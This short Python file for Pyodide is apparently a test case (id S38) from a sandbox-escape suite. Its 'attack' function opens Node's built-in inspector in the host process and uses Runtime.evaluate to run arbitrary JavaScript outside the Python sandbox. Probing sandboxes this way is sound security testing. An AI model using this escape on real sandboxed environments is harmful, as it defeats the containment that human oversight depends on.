"""The inspector without a port: Runtime.evaluate in the own process.

id: S38
canary: code
"""

import js
from pyodide.ffi import create_proxy, to_js


def attack(target):
    said = []
    session = js.process.getBuiltinModule("inspector").Session.new()
    session.connect()
    options = to_js({"expression": target.code}, dict_converter=js.Object.fromEntries)
    session.post("Runtime.evaluate", options, create_proxy(lambda _, it: said.append(it)))
    return said[0].result.value
